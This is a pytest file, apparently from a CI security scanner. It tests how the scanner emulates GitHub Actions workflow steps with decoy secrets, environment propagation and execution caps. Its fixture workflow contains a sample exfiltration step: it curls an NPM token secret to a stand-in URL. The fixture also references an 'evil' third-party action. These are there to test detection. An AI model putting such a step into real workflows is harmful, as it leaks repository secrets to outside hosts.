"""The workflow runner's glue: each step a labelled command, caps cut loudly, what the
runner sets through GITHUB_ENV carried on. The sandbox is a recording fake here; the e2e
review `workflow-attacks` runs the same code confined."""

from __future__ import annotations

from typing import Any, cast

import pytest

from cujo_action import limits
from cujo_action.checks import workflow_runner
from cujo_action.checks.harness import CheckRun
from cujo_action.checks.workflow_jobs import JobContext, JobRun, choose, secret_decoy
from cujo_action.checks.workflow_runner import WorkflowJobs
from cujo_action.sandbox.jail import Outcome

WORKFLOW = """\
on: push
jobs:
  build:
    steps:
      - uses: actions/checkout@v4
      - name: Set
        run: echo "URL=https://x.test" >> "$GITHUB_ENV"
      - name: Send
        env: {KEY: "${{ secrets.NPM_TOKEN }}"}
        run: curl -d "$KEY" "$URL"
      - uses: evil/action@v1
      - run: echo ${{ hashFiles('x') }}
"""


class FakeRun:
    """What the runner asks of a check run, recorded."""

    check = "smoke"
    src = "/home/runner/work/proj/proj"

    def __init__(self, env_after: list[str], exit_codes: list[int] | None = None) -> None:
        self.commands: list[tuple[str, str, dict[str, str], float]] = []
        self.steps: list[str] = []
        self.files: dict[str, bytes] = {}
        self.observations: list[tuple[str, str]] = []
        self.cuts: list[tuple[str, int, str]] = []
        self._env_after = env_after
        self._exits = exit_codes or []
        self.github_env = ""

    def say(self, text: str) -> None:
        pass

    def observe(self, kind: str, detail: str, **_: Any) -> str:
        self.observations.append((kind, detail))
        return ""

    def cut(self, limit: str, *, dropped: int, kept: int = 0, detail: str = "", **_: Any) -> str:
        self.cuts.append((limit, dropped, detail))
        return ""

    def write_file(self, path: str, data: bytes) -> None:
        self.files[path] = data

    def file_command(self, var: str) -> str:
        return self.github_env if var == "GITHUB_ENV" else ""

    def run(
        self,
        cmd: str,
        *,
        phase: str,
        timeout: float,
        cwd: str,
        venv: Any,
        env: Any,
        workflow_step: str = "",
    ) -> Outcome:
        n = len(self.commands)
        self.steps.append(workflow_step)
        self.commands.append((cmd, cwd, dict(env), timeout))
        if n < len(self._env_after):
            self.github_env += self._env_after[n]
        code = self._exits[n] if n < len(self._exits) else 0
        return Outcome(code, False, False, 0.1, "", "", 0, 0)


class Jobs(WorkflowJobs):
    """The runner, with the contexts given rather than read from an armed sandbox."""

    def context(self, job: JobRun) -> JobContext:
        return JobContext(
            github={
                "ref": "refs/heads/main",
                "event_name": job.event,
                "repository": "o/p",
                "workflow": "W",
            },
            runner={},
            secret=lambda name: f"<{secret_decoy(name)}>",
            workspace=FakeRun.src,
            temp="/home/runner/work/_temp",
        )


def jobs_of(text: str, n: int = 1) -> list[JobRun]:
    found = {f".github/workflows/w{i}.yml": text for i in range(n)}
    return choose({}, found, list(found), "main")[0]


def runner(fake: FakeRun) -> Jobs:
    jobs = Jobs.__new__(Jobs)
    jobs.run, jobs.venv = cast(CheckRun, fake), None
    jobs.started, jobs.ran_steps, jobs.said, jobs.path = 0.0, 0, [], "/usr/bin"
    jobs.started = workflow_runner.time.monotonic()
    return jobs


def test_each_run_step_is_a_labelled_command_whose_script_holds_the_decoy() -> None:
    fake = FakeRun(["URL=https://x.test\n"])
    runner(fake).run_all(jobs_of(WORKFLOW))
    cmds = [c[0] for c in fake.commands]
    assert cmds[0].splitlines()[0] == "# .github/workflows/w0.yml · job build · step 2: Set"
    assert cmds[1].splitlines()[0] == "# .github/workflows/w0.yml · job build · step 3: Send"
    # The report's command names the step by itself, apart from its text (``secret_use``).
    assert fake.steps == [c.splitlines()[0].removeprefix("# ") for c in cmds]
    # The decoy is in the script written by the check's uid, never in the command.
    script = next(v for k, v in fake.files.items() if k.endswith(".sh") and b"curl" in v)
    assert script == b'curl -d "$KEY" "$URL"'
    assert all("<NPM_TOKEN>" not in c for c in cmds)
    assert cmds[1].splitlines()[1].startswith("bash -e /home/runner/work/_temp/")
    # The earlier step's GITHUB_ENV reaches it; its own env holds the decoy.
    env = fake.commands[1][2]
    assert (env["URL"], env["KEY"], env["GITHUB_EVENT_NAME"]) == (
        "https://x.test",
        "<NPM_TOKEN>",
        "push",
    )
    assert env["GITHUB_WORKFLOW_REF"] == "o/p/.github/workflows/w0.yml@refs/heads/main"
    kinds = [d.split(": ")[1] for k, d in fake.observations if k == "workflow_step"]
    assert kinds[0] == "emulated"
    assert any(d.endswith("an action Cujo does not emulate: not run") for _, d in fake.observations)


def test_an_expression_not_evaluated_is_a_cut_that_hides_danger() -> None:
    fake = FakeRun([])
    runner(fake).run_all(jobs_of(WORKFLOW))
    [(limit, dropped, detail)] = fake.cuts
    assert (limit, dropped) == ("workflow-expression", 1)
    assert "hashFiles" in detail
    assert limits.LIMITS[limit].hides_danger


def test_jobs_and_steps_past_their_caps_are_cut_by_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "WORKFLOW_JOBS", 2)
    monkeypatch.setattr(limits, "WORKFLOW_STEPS", 2)
    fake = FakeRun([])
    runner(fake).run_all(jobs_of(WORKFLOW.replace("hashFiles('x')", "1"), n=3))
    cut = {c[0]: c for c in fake.cuts}
    assert cut["workflow-jobs"][1:] == (1, "not run: .github/workflows/w2.yml#build")
    assert cut["workflow-steps"][1] == 3
    assert len(fake.commands) == 2  # one run: step among the first two of each job
    assert all(limits.LIMITS[name].hides_danger for name in cut)


def test_the_time_left_bounds_each_step_and_the_rest_is_cut(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(limits, "WORKFLOW_RUN_TIME", 0)
    fake = FakeRun([])
    runner(fake).run_all(jobs_of(WORKFLOW))
    assert [c[0] for c in fake.cuts] == ["workflow-run-time"]
    assert fake.commands == []


def test_a_failed_step_skips_the_next_as_the_runner_does() -> None:
    fake = FakeRun([], exit_codes=[1])
    runner(fake).run_all(jobs_of(WORKFLOW.replace("hashFiles('x')", "1")))
    assert len(fake.commands) == 1
    skipped = [d for k, d in fake.observations if k == "workflow_step" and "skipped" in d]
    assert len(skipped) == 3
    (job,) = [d for k, d in fake.observations if k == "workflow_job"]
    assert job.endswith("5 step(s) taken, failed; secrets read (as decoys): NPM_TOKEN"), job
